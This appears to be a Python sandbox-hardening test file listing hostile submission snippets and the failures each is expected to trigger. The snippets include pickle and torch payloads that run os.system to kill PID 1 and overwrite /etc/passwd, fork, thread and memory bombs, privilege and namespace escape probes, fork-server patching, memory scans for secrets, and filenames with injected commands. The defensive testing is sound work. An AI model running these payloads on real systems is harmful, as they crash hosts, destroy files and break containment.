    _attack(
        "kill-what-started-it",
        """
answer("0.5")
for number in range(1, 65):
    if number not in (signal.SIGINT,):
        tried(os.kill, os.getppid(), number)
        tried(os.kill, 1, number)
""",
        modes=BOTH,
    ),
    _attack(
        "interrupt-what-started-it",
        """
answer("1.0")
for _ in range(100):
    tried(os.kill, 1, signal.SIGINT)
    time.sleep(0.002)
answer("0.5")
""",
        NOTHING,
        "crashed",
        modes=BOTH,
        models=2,
    ),
    _attack(
        "starve-process-1",
        """
import resource
answer("0.5")
tried(os.sched_setaffinity, 1, {0}), tried(os.setpriority, os.PRIO_PROCESS, 1, 19)
for name in ("NOFILE", "DATA", "AS", "FSIZE", "STACK", "NPROC"):
    tried(resource.prlimit, 1, getattr(resource, "RLIMIT_" + name), (0, 0))
tried(resource.prlimit, 1, resource.RLIMIT_CPU, (1, 1))
""",
        NOTHING,
        "crashed",
        modes=BOTH,
        models=2,
    ),
    _attack(
        "raise-limits",
        """
import resource
loot = []
for n in range(16):
    soft, hard = resource.getrlimit(n)
    if hard != resource.RLIM_INFINITY and tried(resource.setrlimit, n, (hard + 1, hard + 1)):
        loot.append(n)
class Header(ctypes.Structure):
    _fields_ = [("version", ctypes.c_uint32), ("pid", ctypes.c_int)]
full = (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)
loot += ["capset"] if libc.capset(ctypes.byref(Header(0x20080522, 0)), full) == 0 else []
tell(loot + (["no_new_privs off"] if libc.prctl(38, 0, 0, 0, 0) == 0 else []))
""",
        modes=BOTH,
    ),
    _attack(
        "push-input-into-a-terminal",
        """
import fcntl
pair = tried(os.openpty)
loot = [c for c in (0x5412, 0x541C) if pair and tried(lambda: fcntl.ioctl(pair[1], c, b"x"))]
tell(loot + (["/dev/tty"] if tried(lambda: os.close(os.open("/dev/tty", os.O_RDWR))) else []))
""",
    ),
    _attack(
        "line-disciplines",
        """
import fcntl
pair, loot = tried(os.openpty), []
for discipline in (1, 3, 13, 15, 21):
    try:
        fcntl.ioctl(pair[1], 0x5423, struct.pack("i", discipline))
        loot.append(discipline)
    except OSError as error:
        loot += [] if error.errno == errno.EPERM else [(discipline, error.errno)]  # the kernel has looked for a module
    except TypeError:
        break
tell(loot)
""",
        models=2,
    ),
    _attack(
        "more-terminals-than-a-limit",
        """
loot = []
while len(loot) < 300 and (fd := tried(os.open, "/dev/ptmx", os.O_RDWR)):
    loot.append(fd)
tell(len(loot) == 300 and ["300 of the 4096 that the whole host has"])
""",
        models=2,
    ),
    _attack(
        "personality",
        """
loot = [p for p in (0x0040000, 0x0400000, 0x0008, 0x0100000) if libc.personality(p) >= 0]
tell(loot)
""",
    ),
    _attack(
        "core-dump",
        """
import resource
tried(resource.setrlimit, resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
pid = os.fork()
if pid == 0:
    os.abort()
_, status = os.waitpid(pid, 0)
tell(os.WCOREDUMP(status) and ["dumped"] or [n for n in os.listdir(".") if n.startswith("core")])
""",
    ),
)

# --- turn the fork server ---------------------------------------------------------------------------------------------

_INTERPRETER = _attacks(
    Aim.INTERPRETER,
    _attack(
        "patches-that-stay",
        """
import builtins, json, atexit, threading, subprocess
loot = [m for m in (builtins, json, os, sys, signal, time) if hasattr(m, "mark")]
for m in (builtins, json, os, sys, signal, time):
    m.mark = 1
sys.modules["marked"] = os
loot += ["fork hook"] if os.environ.get("MARK") else []
os.environ["MARK"] = "1"
json.dumps = json.loads = lambda *a, **k: '{"status": 0}'
os.fork = os.waitpid = os.wait4 = lambda *a: (0, 0)
os.register_at_fork(before=lambda: None, after_in_child=lambda: open(RESULT, "w").write("1.0"))
tell(loot)
""",
    ),
    _attack(
        "look-through-all-objects",
        """
import gc, types
loot, seen = [], []
for o in gc.get_objects():
    if o is seen or o is loot:
        continue
    if isinstance(o, socket.socket) and o.fileno() >= 0:
        loot.append(o)
    if isinstance(o, (dict, list, tuple)):
        for v in (o.values() if isinstance(o, dict) else o):
            if isinstance(v, (str, bytes)):
                seen.append(v if isinstance(v, str) else v.decode(errors="replace"))
    if isinstance(o, types.FrameType) and "nest.py" in o.f_code.co_filename:
        seen += [repr(v)[:2000] for v in o.f_locals.values()]
own = {id(v) for v in globals().values()}
text = [s for s in seen if id(s) not in own and s not in (ROUND, OUTSIDE, SECRET, SOCKET, ABSTRACT) and s not in IDS]
words = (*IDS, ROUND, SECRET)
source = read("/submission/entrypoint.py").decode()
tell(loot + [s[:80] for s in text if any(w in s for w in words) and s not in source and len(s) < 5000])
""",
    ),
    _attack(
        "the-nests-own-tools",
        """
kernel = sys.modules.get("_palladion_kernel")
import gc
if kernel is None:
    kernel = next((o for o in gc.get_objects() if getattr(o, "__name__", "") == "_palladion_kernel"), None)
loot = []
if kernel is None:
    import importlib.util
    spec = importlib.util.spec_from_file_location("k", "/opt/nest/kernel.py")
    kernel = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(kernel)
loot += ["unshare"] if tried(kernel.unshare, kernel.CLONE_NEWUSER) else []
loot += ["mount"] if tried(kernel.mount, "none", "/tmp", "tmpfs", 0) else []
loot += ["tmpfs"] if tried(lambda: kernel.new_tmpfs(size="0")) else []
loot += ["tree"] if tried(kernel.open_tree, "/") else []
tell(loot)
""",
    ),
    _attack(
        "programs-imported-beforehand",
        """
answer("0.5")
if len(sys.argv) < 2:
    import palladion.cli.__main__, palladion.submissions.validation, numpy.f2py.__main__, PIL.__main__, scipy.conftest
""",
        models=2,
    ),
    _attack(
        "end-in-the-interpreters-place",
        """
import atexit, threading
answer("0.5")
def late():
    time.sleep(0.05)
    answer("0.5")
threading.Thread(target=late).start()
atexit.register(lambda: os._exit(0))
sys.stdout.close()
class Loud:
    def flush(self): raise SystemExit(3)
    def write(self, text): return 0
sys.stderr = Loud()
""",
        NOTHING,
        "crashed",
    ),
    _attack(
        "main-of-the-fork-server-again",
        """
frame, loot = sys._getframe(), []
while frame is not None:
    g = frame.f_globals
    if "finish" in g and "_keep_house" in g:
        loot += [k for k, v in list(frame.f_locals.items()) if isinstance(v, socket.socket) and v.fileno() >= 0]
        g["finish"] = lambda code: os._exit(0)  # what it does is this process's affair alone
    frame = frame.f_back
tell(loot)
""",
    ),
    _attack(
        "same-random-numbers",
        """
import random, uuid, secrets
# Not an escape, but siblings with one stream of random numbers would be one experiment, not four.
print("RANDOM", random.random(), secrets.token_hex(4))
answer("0.5")
""",
    ),
    _attack(
        "unpickled-model-with-torch",
        """
import torch
class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {OUTSIDE}/hostile-mark {ROUND}/hostile-mark; kill -9 1; kill -9 $PPID",)
torch.save({"model": Bomb()}, "model.pt")
answer("0.5")
torch.load("model.pt", weights_only=False)
print("RANDOM", torch.rand(1).item() * 0, time.time_ns())
""",
        NOTHING,
        "crashed",
        models=2,
        seconds=30,
        memory_bytes=1 << 30,
    ),
    _attack(
        "unpickled-model",
        """
import pickle
class Bomb:
    def __reduce__(self):
        words = f"touch {OUTSIDE}/hostile-mark {ROUND}/hostile-mark; kill -9 1; kill -9 $PPID; echo x > /etc/passwd"
        return os.system, (words,)
open("model.pkl", "wb").write(pickle.dumps(Bomb()))
answer("0.5")
pickle.load(open("model.pkl", "rb"))
""",
        NOTHING,
        "crashed",
        modes=BOTH,
        models=2,
    ),
)

# --- use everything up ------------------------------------------------------------------------------------------------

_EXHAUST = _attacks(
    Aim.EXHAUST,
    _attack("fork-bomb", "while True:\n    tried(os.fork)\n", "processes", models=2),
    _attack(
        "thread-bomb",
        """
import threading
while True:
    threading.Thread(target=time.sleep, args=(60,)).start()
""",
        "processes",
        "crashed",
        models=2,
    ),
    _attack(
        "forks-faster-than-any-watcher",
        """
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
while True:
    if tried(os.fork) is True:
        if os.fork() == 0:
            continue
        os._exit(0)
    os._exit(0)
""",
        "timeout",
        "processes",
        "crashed",
        "no_answer",
        models=2,
        seconds=0.8,
    ),
    _attack(
        "memory",
        "hoard = []\nwhile True:\n    hoard.append(bytearray(os.urandom(1 << 12) * 4096))\n",
        "memory",
        models=2,
    ),
    _attack(
        "memory-of-many",
        """
for _ in range(3):
    os.fork()
hoard = []
while True:
    hoard.append(bytearray(os.urandom(1 << 12) * 1024))
""",
        "memory",
        "crashed",
        models=2,
    ),
    _attack(
        "memory-in-files-without-names",
        """
hoard = []
while True:
    fd = os.memfd_create("x")
    hoard.append(fd)
    for _ in range(8):
        os.write(fd, bytes(1 << 20))
""",
        "memory",
        "crashed",
        models=2,
    ),
    _attack(
        "memory-in-page-tables",
        """
import mmap
area = mmap.mmap(-1, 1 << 40, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000)
for i in range(0, 1 << 40, 1 << 21):
    area[i]  # the page of zeros costs nothing, but the table that leads to it does
""",
        "memory",
        "crashed",
        "timeout",
        models=2,
    ),
    _attack(
        "memory-in-pipes-and-sockets",
        """
import fcntl
hoard = []
while True:
    try:
        if len(hoard) % 2:
            a, b = socket.socketpair()
            a.setblocking(False)
            hoard.append((a, b))
            while True:
                a.send(bytes(1 << 16))
        else:
            a, b = os.pipe()
            os.set_blocking(b, False)
            hoard.append((a, b))
            fcntl.fcntl(b, 1031, 1 << 20)
            while True:
                os.write(b, bytes(1 << 16))
    except BlockingIOError:
        pass
    except OSError:
        answer("0.5")
        break
""",
        NOTHING,
        "memory",
        "crashed",
        models=2,
    ),
    _attack(
        "memory-in-message-queues",
        """
for key in range(1000, 40000):
    queue = libc.msgget(key, 0o1600)
    if queue < 0:
        break
    while libc.msgsnd(queue, ctypes.create_string_buffer(8200), 8000, 0o4000) == 0:
        pass
answer("0.5")
""",
        NOTHING,
        "memory",
        "crashed",
        "timeout",
        models=2,
    ),
    _attack(
        "scratch",
        """
with open("f", "wb", 0) as a, open("/tmp/f", "wb", 0) as b:
    while True:
        a.write(bytes(1 << 20))
        b.write(bytes(1 << 20))
""",
        "scratch",
        models=2,
    ),
    _attack(
        "shared-memory-folder",
        "n = 0\nwhile True:\n    open(f'/dev/shm/{n}', 'wb').write(bytes(1 << 20))\n    n += 1\n",
        "scratch",
        "crashed",
        models=2,
    ),
    _attack(
        "millions-of-files",
        """
n = 0
while True:
    try:
        fd = os.open(f"f{n}", os.O_CREAT | os.O_WRONLY)
        os.close(fd)
        n += 1
    except OSError:
        time.sleep(60)
""",
        "scratch",
        "memory",
        "timeout",
        models=2,
        seconds=6,
    ),
    _attack(
        "very-deep-folders",
        """
for n in range(20000):
    os.mkdir("d")
    os.chdir("d")
answer("0.5")
""",
        models=2,
    ),
    _attack(
        "names-that-are-none",
        """
for name in ("a" + chr(10) + "b", chr(27) + "[2J", "x" * 255, "-rf", "$(reboot)", chr(0x202E) + "gpj.exe", "..."):
    open(name, "w").close()
open(os.fsencode("bad") + bytes([0xff, 0xfe]), "w").close()
os.symlink("loop", "loop")
os.symlink("/", "root")
os.mkdir("closed")
os.chmod("closed", 0)
os.chmod(SCRATCH, 0)
os.chmod("/tmp", 0)
answer("0.5")
""",
        models=2,
    ),
    _attack("output", "while True:\n    print('x' * 10000)\n", "output", models=2),
    _attack(
        "errors-without-a-line-break",
        "line = b'y' * 65536\nwhile True:\n    os.write(2, line)\n",
        "output",
        models=2,
    ),
    _attack(
        "output-of-children",
        """
for _ in range(8):
    if os.fork() == 0:
        os.setsid()
        while True:
            os.write(1, b"z" * 4096)
time.sleep(60)
""",
        "output",
        "crashed",
        models=2,
    ),
    _attack("sleep", "time.sleep(3600)\n", "timeout", models=2, seconds=0.6),
    _attack(
        "deaf-to-signals",
        """
for n in range(1, 65):
    tried(signal.signal, n, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    time.sleep(1)
""",
        "timeout",
        models=2,
        seconds=0.6,
    ),
    _attack("stopped", "os.kill(os.getpid(), signal.SIGSTOP)\n", "timeout", models=2, seconds=0.6),
    _attack("answer-then-hang", "answer('1.0')\ntime.sleep(3600)\n", "timeout", models=2, seconds=0.6),
    _attack(
        "closed-output-then-hang",
        "os.close(1)\nos.close(2)\nanswer('1.0')\ntime.sleep(3600)\n",
        "timeout",
        models=2,
        seconds=0.6,
    ),
    _attack(
        "starts-itself-again-and-again",
        "answer('1.0')\nos.execv(sys.executable, [sys.executable, *sys.argv])\n",
        "timeout",
        models=2,
        seconds=0.8,
    ),
    _attack(
        "orphans-that-hang",
        """
answer("0.5")
for _ in range(10):
    daemon(lambda: time.sleep(3600))
""",
        models=2,
    ),
    _attack(
        "processor-time",
        """
import threading
def spin():
    while True:
        pass
for _ in range(8):
    threading.Thread(target=spin).start()
if os.fork() == 0:
    spin()
""",
        "cpu",
        models=2,
        cpu_seconds=0.3,
    ),
    _attack(
        "descriptors",
        """
while tried(lambda: os.open("/dev/null", os.O_RDONLY)):
    pass
print(len(os.sched_getaffinity(0)))
""",
        "no_answer",
        "crashed",
        models=2,
    ),
    _attack("abort", "answer('1.0')\nos.abort()\n", "crashed", models=2),
    _attack("segmentation-fault", "answer('1.0')\nctypes.string_at(8)\n", "crashed", modes=BOTH, models=2),
    _attack("exit-code-beyond-bytes", "answer('1.0')\nos._exit(256 + 7)\n", "crashed", models=2),
    _attack("kills-itself", "answer('1.0')\nos.kill(os.getpid(), signal.SIGKILL)\n", "crashed", models=2),
    _attack(
        "recursion",
        "answer('1.0')\nsys.setrecursionlimit(1 << 30)\ndef f(): f()\nf()\n",
        "crashed",
        "memory",
        models=2,
    ),
    _attack(
        "escapes-in-the-message",
        r"""
for text in (b"\x1b]0;owned\x07\x1b[2J\x1b[31m", b"\r\x08\x08OK \xe2\x80\xae\xc2\x9b31m \xff\xfe\x00 [bold]x[/bold]\n"):
    os.write(2, text)
os._exit(1)
""",
        "crashed",
        models=2,
    ),
)

# --- answer what is no answer -----------------------------------------------------------------------------------------


def _text(name: str, text: str, error: str = "bad_answer") -> Attack:
    return _attack(f"answer-{name}", f"answer({text})\n", error, models=2)


_ANSWER = _attacks(
    Aim.ANSWER,
    _text("nan", "'nan'"),
    _text("infinite", "'1e400'"),
    _text("text", "'poisoned'"),
    _text("empty", "'  '", "no_answer"),
    _text("above-1", "'1.0000001'"),
    _text("below-0", "'-0.1'"),
    _text("two", "'0.1 0.9'"),
    _text("other-digits", "'0.' + chr(0x0665)"),
    _text("underscore", "'0.5_0'"),
    _text("hexadecimal", "'0x1p-1'"),
    _text("json", "'{\"probability\": 1.0}'"),
    _text("zero-bytes", "chr(0) * 4 + '0.9'"),
    _text("not-text", "''.join(map(chr, range(0xd8, 0x120)))"),
    _text("long", "'0.' + '9' * (16 << 20)"),
    _attack(
        "answer-sparse", "os.truncate(os.open(RESULT, os.O_CREAT | os.O_WRONLY), 31 << 20)\n", "bad_answer", models=2
    ),
    _attack("answer-none", "pass\n", "no_answer", models=2),
    _attack("answer-link", "os.symlink('/etc/passwd', RESULT)\n", "bad_answer", models=2),
    _attack("answer-link-to-host", "os.symlink(OUTSIDE + '/number.txt', RESULT)\n", "bad_answer", models=2),
    _attack("answer-pipe", "os.mkfifo(RESULT)\n", "bad_answer", models=2),
    _attack("answer-folder", "os.mkdir(RESULT)\n", "bad_answer", models=2),
    _attack("answer-socket", "socket.socket(socket.AF_UNIX).bind(RESULT)\n", "bad_answer", models=2),
    _attack(
        "answer-closed", "answer('0.5')\nos.chmod(RESULT, 0)\nos.chmod('/box', 0)\n", NOTHING, "bad_answer", models=2
    ),
    _attack(
        "answer-race-with-a-link",
        """
def race():
    while True:
        for action in (lambda: os.symlink(OUTSIDE + "/number.txt", "/box/l"), lambda: os.rename("/box/l", RESULT),
                       lambda: open("/box/n", "w").write("0.5"), lambda: os.rename("/box/n", RESULT)):
            tried(action)
for _ in range(3):
    daemon(race)
time.sleep(0.1)
os._exit(0)
""",
        NOTHING,
        "bad_answer",
        "no_answer",
    ),
)

ATTACKS: tuple[Attack, ...] = (
    *_READ,
    *_WRITE,
    *_STATE,
    *_SIBLING,
    *_NETWORK,
    *_ESCAPE,
    *_INTERPRETER,
    *_EXHAUST,
    *_ANSWER,
)
